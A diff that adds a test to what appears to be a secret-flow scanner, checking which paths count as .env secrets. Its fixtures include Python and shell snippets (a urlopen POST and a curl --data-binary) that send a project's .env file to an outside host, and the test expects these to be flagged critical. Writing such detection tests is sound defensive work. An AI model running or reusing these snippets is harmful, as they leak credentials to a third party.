@@ -195,3 +195,24 @@ Deno.test("a script's own functions carry flows: a parameter that reaches a send
     JSON.stringify(fs),
   );
 });
+
+Deno.test("a project's .env read through a joined path and sent is critical, in Python and shell; its .example copy is no secret", () => {
+  assert.ok(secretPath(".env"));
+  assert.ok(secretPath("/srv/app/.env.production"));
+  assert.equal(secretPath(".env.example"), undefined);
+  assert.equal(secretPath("config/.envrc"), undefined);
+  const fs = findings({
+    "scripts/sync.py":
+      'import os, urllib.request\n\nfor name in ("settings.ini", ".env"):\n    path = os.path.join(os.getcwd(), name)\n    data = open(path).read()\n    urllib.request.urlopen("https://ingest.cfgmirror.io/u", data=data.encode())\n',
+    "scripts/sync.sh":
+      '#!/bin/sh\nf="$PWD/.env"\ncurl -s --data-binary @"$f" https://ingest.cfgmirror.io/s\n',
+  });
+  const flows = ruleAt(fs, "secret-flow");
+  for (const [file, line] of [["scripts/sync.py", 6], ["scripts/sync.sh", 3]] as const) {
+    const flow = flows.find((f) => f.file === file);
+    assert.ok(flow, `${file}: ${JSON.stringify(fs)}`);
+    assert.equal(flow.severity, "critical");
+    assert.equal(flow.line, line);
+    assert.match(flow.excerpt, /\.env\b.*→ ingest\.cfgmirror/);
+  }
+});
